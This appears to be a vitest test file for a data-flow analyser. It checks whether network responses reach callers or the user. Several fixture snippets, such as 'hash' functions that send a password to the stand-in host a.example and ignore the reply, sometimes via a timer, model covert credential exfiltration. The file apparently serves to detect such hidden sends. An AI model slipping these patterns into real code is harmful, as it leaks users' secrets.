import { describe, expect, test } from 'vitest';
import { follow } from '../sample.js';

const answered = (text: string): boolean =>
  follow(text).observations.some(({ sink, answered: yes }) => sink === 'net.out' && yes === true);

describe('the answer of a request', () => {
  test.each([
    ['a result', "exports.ask = async (token) => (await fetch('https://a.example/' + token)).json();"],
    [
      'a promise',
      "exports.ask = (token) => new Promise((r) => require('https').get('https://a.example/' + token, r));",
    ],
    [
      'a callback',
      "exports.ask = (token, done) => { require('https').get('https://a.example/' + token, (res) => res.on('data', (d) => done(null, d))); };",
    ],
    [
      'a function among the options',
      "exports.ask = (token, o) => { require('https').get('https://a.example/' + token, (res) => res.on('data', (d) => o.onData(d))); };",
    ],
    [
      'a method',
      "exports.Client = class { constructor(token) { this.t = token; } ask() { return fetch('https://a.example', { headers: { x: this.t } }); } };",
    ],
    [
      'an event that only callers hear',
      "const { EventEmitter } = require('events'); exports.ask = (token) => { const e = new EventEmitter(); require('https').get('https://a.example/' + token, (res) => res.on('data', (d) => e.emit('answer', d))); return e; };",
    ],
    [
      'a function that was handed out',
      "exports.client = (token) => ({ users: { list: () => fetch('https://a.example', { headers: { x: token } }) } });",
    ],
    [
      'the variable of a script that a page loads',
      "var Acme = (function (out) { class Client { async ask(token) { return (await fetch('https://a.example/' + token)).json(); } } out.Client = Client; return out; })({});",
    ],
    [
      'a global of a bundle for pages',
      "var api = (function (e) { e.ask = async (q) => (await fetch('https://a.example/' + q)).json(); return e; })({});",
    ],
    [
      'a stream that is read elsewhere',
      "const { Readable } = require('stream'); exports.ask = (q) => { const s = new Readable({ read() {} }); fetch('https://a.example/' + q).then(async (r) => s.push(await r.text())); return s; };",
    ],
    [
      'a handler that a library makes an export of',
      "module.exports = require('x-server').defineHandler(async (e) => { const r = await fetch('https://a.example/' + e.q); return r.json(); });",
    ],
  ])('goes back by %s', (_name, text) => {
    expect(answered(text)).toBe(true);
  });

  test.each([
    [
      'nobody',
      "exports.hash = (password) => { fetch('https://a.example/' + password).catch(() => {}); return password.length; };",
    ],
    [
      'a handler of its own only',
      "exports.hash = (password) => { fetch('https://a.example/' + password).then((r) => r.json()); return password.length; };",
    ],
    [
      'an event that the package hears itself',
      "const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('answer', () => {}); exports.ask = (token) => { require('https').get('https://a.example/' + token, (res) => res.on('data', (d) => e.emit('answer', d))); };",
    ],
    [
      'a timer',
      "exports.hash = (password) => { setTimeout(() => fetch('https://a.example/' + password), 9); return 1; };",
    ],
    [
      'nobody, where a bundle for pages keeps it',
      "var api = (function (e) { e.hash = (q) => { fetch('https://a.example/' + q); return q.length; }; return e; })({});",
    ],
    [
      'nobody, where a handler that a library makes an export of keeps it',
      "module.exports = require('x-server').defineHandler(async (e) => { await fetch('https://a.example/' + e.q); return 'ok'; });",
    ],
  ])('goes to %s', (_name, text) => {
    expect(answered(text)).toBe(false);
  });
});

const shown = (text: string): boolean =>
  follow(text).observations.some(({ sink, shown: yes }) => sink === 'net.out' && yes === true);

describe('the answer of a request that is shown', () => {
  test.each([
    [
      'printed',
      "fetch('https://a.example/' + process.argv[2]).then((r) => r.json()).then((r) => console.log(r.name));",
    ],
    [
      'kept in a file',
      "const fs = require('fs'); require('request')('https://a.example/' + process.argv[2]).pipe(fs.createWriteStream('./out'));",
    ],
    [
      'given back by a tool of a server',
      "new (require('x-server'))().add({ name: 'a', run: async (q) => (await fetch('https://a.example/' + q)).json() });",
    ],
  ])('%s', (_name, text) => {
    expect(shown(text)).toBe(true);
  });

  test('an answer that nobody looks at is none, nor is the number of bytes that were sent', () => {
    expect(shown("fetch('https://a.example/' + process.argv[2]).catch(() => {}); console.log('done');")).toBe(false);
    expect(shown("const b = process.argv[2]; fetch('https://a.example/' + b); console.log(b.length);")).toBe(false);
  });
});
